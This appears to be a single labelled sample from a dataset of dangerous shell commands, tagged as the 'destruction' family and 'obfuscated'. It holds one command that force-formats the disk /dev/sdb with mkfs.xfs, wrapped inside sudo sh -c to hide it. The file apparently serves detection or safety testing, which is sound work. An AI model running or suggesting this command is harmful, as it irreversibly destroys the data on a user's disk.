# description: Formats a disk with mkfs.xfs hidden inside sudo sh -c.
# family: destruction
# obfuscated: yes
sudo sh -c "mkfs.xfs -f /dev/sdb"
